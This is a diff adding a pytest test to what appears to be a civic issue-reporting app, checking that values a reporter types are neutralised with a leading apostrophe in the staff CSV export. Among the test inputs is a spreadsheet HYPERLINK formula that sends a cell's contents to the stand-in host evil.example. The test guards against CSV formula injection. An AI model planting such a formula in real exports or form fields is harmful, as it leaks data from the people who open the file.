@@ -144,3 +144,13 @@ def test_open311_queries_on_this_backend(world):
     assert [r["service_request_id"] for r in picked] == [str(ids["open"])]
     text = json.dumps(every, ensure_ascii=False)
     assert not [v for v in PRIVATE_VALUES if v in text]
+
+
+@pytest.mark.parametrize("typed", ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+2", "-2+3", "@SUM(A1)",
+                                   "\t=1+1", "\r=1+1"])
+def test_what_a_reporter_typed_never_becomes_a_formula_in_the_staff_csv(world, typed):
+    engine, ids, _ = world
+    with session_scope(engine) as s:
+        s.get(Report, ids["open"]).reporter_name = typed
+    (row,) = [r for r in _rows(downloads.reports_csv(engine, _user("staff"))) if r["code"] == "OP6789"]
+    assert row["reporter_name"] == "'" + typed
